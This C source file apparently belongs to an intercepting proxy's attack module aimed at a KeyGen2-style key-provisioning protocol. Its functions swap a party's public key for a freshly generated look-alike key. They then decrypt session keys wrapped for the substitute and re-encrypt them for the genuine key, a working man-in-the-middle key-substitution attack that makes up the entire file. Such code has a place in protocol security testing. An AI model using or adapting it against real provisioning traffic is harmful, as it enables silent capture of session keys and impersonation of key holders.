#include "proxy/attack/own_keys.h"

#include "keygen2/base/base64.h"
#include "keygen2/crypto/public_key.h"
#include "keygen2/crypto/session_2010.h"
#include "keygen2/message/keygen2.h"

#include <openssl/rsa.h>

static bool read_key(const json_t *value, struct buf *spki)
{
    struct arena arena = { 0 };
    struct sks_error err = { 0 };
    struct json_reader reader = { .arena = &arena, .err = &err };
    struct bytes key = { 0 };
    enum sks_status rc;

    if (json_is_string(value)) {
        rc = base64url_decode(bytes_at(json_string_value(value), json_string_length(value)), spki);
    } else {
        rc = KEYGEN2_JWK.decode(&reader, &(struct json_place){ 0 }, value, &key);
        put_raw(spki, key);
    }
    arena_free(&arena);
    return rc == SKS_OK && spki->status == SKS_OK;
}

static json_t *write_key(struct bytes spki, bool as_text)
{
    struct buf text = { 0 };
    json_t *value;

    if (as_text)
        return json_binary(spki);
    KEYGEN2_JWK.encode(&text, &spki);
    value = text.status != SKS_OK ? NULL : json_loadb((const char *)text.ptr, text.len, 0, NULL);
    buf_free(&text);
    return value;
}

static EVP_PKEY *generate_like(EVP_PKEY *theirs)
{
    EVP_PKEY_CTX *ctx = EVP_PKEY_CTX_new(theirs, NULL);
    EVP_PKEY *own = NULL;

    if (ctx == NULL || EVP_PKEY_keygen_init(ctx) <= 0 ||
        (EVP_PKEY_is_a(theirs, "RSA") &&
         EVP_PKEY_CTX_set_rsa_keygen_bits(ctx, EVP_PKEY_get_bits(theirs)) <= 0) ||
        EVP_PKEY_generate(ctx, &own) <= 0)
        own = NULL;
    EVP_PKEY_CTX_free(ctx);
    return own;
}

json_t *own_keys_replace(struct own_keys *keys, const json_t *value)
{
    struct buf theirs = { 0 }, own = { 0 };
    EVP_PKEY *pkey = NULL;
    json_t *replacement = NULL;

    if (!read_key(value, &theirs) || public_key_load(buf_bytes(&theirs), &pkey) != SKS_OK)
        goto out;
    own_keys_free(keys);
    keys->theirs = pkey;
    keys->own = generate_like(pkey);
    if (keys->own != NULL && put_pkey(&own, keys->own) == SKS_OK)
        replacement = write_key(buf_bytes(&own), json_is_string(value));
out:
    buf_free(&theirs);
    buf_free(&own);
    return replacement;
}

json_t *own_keys_re_encrypt(struct own_keys *keys, const json_t *value)
{
    struct bytes text = bytes_at(json_string_value(value), json_string_length(value));
    struct session_key sk = { 0 };
    struct buf data = { 0 }, again = { 0 };
    json_t *replacement = NULL;

    if (keys->own != NULL && json_is_string(value) && base64url_decode(text, &data) == SKS_OK &&
        session_2010_decrypt(keys->own, buf_bytes(&data), &sk) == SKS_OK &&
        session_2010_encrypt(keys->theirs, &sk, &again) == SKS_OK)
        replacement = json_binary(buf_bytes(&again));
    OPENSSL_cleanse(&sk, sizeof sk);
    buf_free(&data);
    buf_free(&again);
    return replacement;
}

void own_keys_free(struct own_keys *keys)
{
    EVP_PKEY_free(keys->own);
    EVP_PKEY_free(keys->theirs);
    *keys = (struct own_keys){ 0 };
}
